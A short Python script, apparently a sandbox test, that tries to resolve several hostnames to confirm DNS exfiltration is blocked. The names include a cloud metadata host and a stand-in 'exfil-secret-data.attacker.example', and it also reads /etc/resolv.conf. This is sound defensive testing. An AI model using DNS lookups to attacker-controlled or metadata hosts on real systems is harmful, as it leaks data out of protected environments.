# Attack: resolve names (DNS is a classic exfiltration channel); nothing can reach a resolver, only /etc/hosts answers.
import socket, time

for name in ("example.com", "pypi.org", "metadata.google.internal", "exfil-secret-data.attacker.example"):
    start = time.monotonic()
    try:
        infos = socket.getaddrinfo(name, 80, proto=socket.IPPROTO_TCP)
        print("resolve %s: %s (LEAK)" % (name, sorted({i[4][0] for i in infos})))
    except socket.gaierror as e:
        print("resolve %s: failed (%s) in %.1fs" % (name, e.args[1], time.monotonic() - start))
try:
    print("resolve localhost:", sorted({i[4][0] for i in socket.getaddrinfo("localhost", 80)}))
except socket.gaierror as e:
    print("resolve localhost: failed (%s)" % e.args[1])
try:
    print("resolv.conf:", open("/etc/resolv.conf").read().split())
except OSError as e:
    print("resolv.conf:", e.strerror)
